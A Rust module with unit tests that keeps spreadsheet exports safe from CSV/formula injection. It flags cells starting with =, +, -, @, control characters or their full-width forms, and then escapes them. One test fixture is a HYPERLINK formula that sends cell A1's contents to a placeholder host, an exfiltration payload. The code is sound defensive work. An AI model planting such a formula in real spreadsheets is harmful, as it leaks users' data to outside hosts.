//! Spreadsheet cells that stay inert: the rule every export (CSV, XLSX) follows so that text a
//! person typed is never run as a formula when the file is opened (CSV/formula injection, OWASP
//! "CSV Injection"; field case B11).
//!
//! A text value is *formula-like* when it starts with `=`, `+`, `-`, `@`, a tab, a carriage
//! return or a line feed, or with their full-width forms (`＝`, `＋`, `－`, `＠`: Excel and WPS with
//! a Chinese input method turn a leading `＝` into a formula), unless the whole value is a plain
//! number (`-12`, `+3.5`): real negative numbers stay numbers. How each format keeps a
//! formula-like value inert:
//!
//! - CSV: [`csv_text`] prefixes one apostrophe (`'=1+1`). Spreadsheets show it as text; the roster
//!   import strips one leading apostrophe, so an exported file imports back unchanged.
//! - XLSX: the value is written as a string cell with the "quote prefix" style
//!   ([`needs_quote_prefix`]): shown exactly as typed (`-1层配电室…` stays readable), and still
//!   text when someone edits the cell.

use std::borrow::Cow;

/// Characters that make a spreadsheet read the rest of a cell as a formula (or a DDE call).
/// The full-width forms are U+FF1D `＝`, U+FF0B `＋`, U+FF0D `－`, U+FF20 `＠`.
const TRIGGERS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// Whether `s` is a plain decimal number: an optional sign, digits, an optional fraction.
/// `-12`, `+3.5`, `0.25` are; `1+1`, `-1层`, `1e5`, `--1` are not.
pub fn is_plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['-', '+']).unwrap_or(s);
    let (int, frac) = match body.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (body, None),
    };
    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    digits(int) && frac.is_none_or(digits)
}

/// Whether a spreadsheet would read `s` as a formula: it starts with a trigger (see the module
/// docs) and is not a plain number.
pub fn is_formula_like(s: &str) -> bool {
    s.starts_with(TRIGGERS) && !is_plain_number(s)
}

/// The text to put in a CSV field for `s`: `s` itself, or `'` + `s` when it is formula-like.
pub fn csv_text(s: &str) -> Cow<'_, str> {
    if is_formula_like(s) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Whether an XLSX string cell holding `s` needs the quote-prefix style (Excel's `quotePrefix`,
/// `rust_xlsxwriter::Format::set_quote_prefix`) to stay text when edited.
pub fn needs_quote_prefix(s: &str) -> bool {
    is_formula_like(s)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn b11_values() {
        // The cells of shared case B11 (hazard descriptions).
        for s in [
            "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"查看详情\")",
            "+1+1",
            "@SUM(1,1)",
            "-1层配电室未铺设绝缘胶垫",
            "\t=1+1",
            "＝1+1（全角等号）",
            "＋1",
            "－1+1",
            "＠SUM(1)",
            "\r=1",
            "\n=1",
        ] {
            assert!(is_formula_like(s), "{s:?}");
            assert_eq!(csv_text(s), format!("'{s}"));
            assert!(needs_quote_prefix(s));
        }
        for s in [
            "示例甲公司",
            "更换灭火器",
            "1+1",
            "",
            "'=1",
            " =1",
            "91330106MA2BC0001U",
        ] {
            assert!(!is_formula_like(s), "{s:?}");
            assert_eq!(csv_text(s), s);
        }
    }

    #[test]
    fn real_numbers_stay_numbers() {
        for s in ["-12", "+3.5", "-0.25", "42", "-1"] {
            assert!(is_plain_number(s), "{s}");
            assert!(!is_formula_like(s), "{s}");
            assert_eq!(csv_text(s), s);
        }
        for s in ["-", "-.5", "1.", "--1", "-1层", "1e5", "-1+1", "+"] {
            assert!(!is_plain_number(s), "{s}");
        }
        assert!(is_formula_like("-1+1"));
    }
}
